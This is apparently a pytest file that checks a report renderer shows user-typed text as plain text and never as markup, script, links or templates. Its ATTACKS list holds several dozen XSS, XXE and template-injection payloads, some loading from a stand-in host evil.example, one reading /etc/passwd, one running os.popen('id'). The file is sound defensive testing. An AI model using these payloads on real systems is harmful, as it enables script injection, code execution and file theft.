"""Whatever was typed is shown as text: it becomes no markup, no script, no link, no template."""

from __future__ import annotations

import re
from typing import NamedTuple

import pytest

from branchlog.render.safe import safe, storable
from branchlog.report import (
    Chart,
    Column,
    Proof,
    Report,
    Run,
    Section,
    Series,
    Table,
)
from tests.render.pages import Element, page, read, source

ATTACKS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x onclick=alert(1)",
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '#x" onclick="alert(1)',
    "expression(alert(1))",
    "}body{background:url(//evil.example/x)}",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{#",
    "{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b[31mred\x07\x9b",
    "\u202egnp.exe\u2066\u2069\u200e\u061c",
    "a\u2028b\u2029c\ufffe\uffff",
    "\ud800 alone",
    "Ω≈ç√∫ 𠮷野家 👨‍👩‍👧" * 20,
]
#: What moves the cursor, turns the reading order or ends a text.
DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def everywhere(text: str) -> Report:
    """A report with the text in every place that can hold one."""
    columns = (Column(text, text), Column(f"2{text}", text, "right"))
    table = Table(columns, ((text, text), (text, 5)), text, proofs=(("", f"1{text}"), ("", "no")))
    series = (Series(text, (1, None)), Series(f"{text}2", (2, 0)))
    blocks = (
        (Run(text), Run(text, f"1{text}"), Run(text, text)),
        table,
        Chart(text, (text, f"2{text}"), series, text),
        Chart(text, tuple("abcdef"), (Series(text, (1, 2, 3, 4, 5, 6)),), text),
    )
    record = Table((Column(text, text), Column("date", text)), ((text, text), (5, None)), text)
    return Report(
        heading=(text, text),
        tables=(table,),
        notes=(text,),
        title=text,
        byline=(text,),
        sections=(Section(text, blocks, (Section(text, blocks),)),),
        signature=(text,),
        proofs=(Proof(f"1{text}", text, 5, text, text, ((text, text), ("unknown", 1))),),
        records=(record, record),
    )


class Attack(NamedTuple):
    """A text and the page that has it everywhere."""

    text: str
    source: str
    root: Element


@pytest.fixture(params=ATTACKS, scope="module")
def attack(request: pytest.FixtureRequest) -> Attack:
    """Each attack in turn."""
    written = source(everywhere(request.param))
    return Attack(request.param, written, read(written))


def shapes(root: Element) -> set[tuple[str, tuple[str, ...]]]:
    """Every kind of element on the page, with the names of its attributes."""
    return {(element.tag, tuple(element.attributes)) for element in root.all()}


def test_a_text_adds_no_element_and_no_attribute(attack: Attack) -> None:
    assert shapes(attack.root) == shapes(page(everywhere("x" * len(attack.text))))


def test_a_text_is_shown_as_it_was_typed(attack: Attack) -> None:
    expected = storable(safe(attack.text, multiline=True))
    root = attack.root

    assert root.one("h1").text == expected
    assert root.one("head").one("title").text == expected
    assert root.one("div", class_="notes").one("p").text == expected
    assert {head.text for head in root.all("thead")} == {expected * 2}
    assert root.all("p", class_="text")[0].text == expected * 3
    assert {title.text for title in root.all("svg", role="img")[0].all("title")} == {
        f"{expected} ({expected})"
    }


def test_a_text_leads_nowhere(attack: Attack) -> None:
    elements = attack.root.all()
    targets = [e.attributes["href"] for e in elements if "href" in e.attributes]
    names = [e.attributes["id"] for e in elements if "id" in e.attributes]

    assert targets
    assert [target for target in targets if not re.fullmatch("#[a-z]+[0-9]*", target)] == []
    assert [name for name in names if not re.fullmatch("[a-z]+[0-9]*", name)] == []


def test_nothing_turns_the_reading_order_or_ends_the_text(attack: Attack) -> None:
    assert DANGEROUS.findall(attack.source) == []
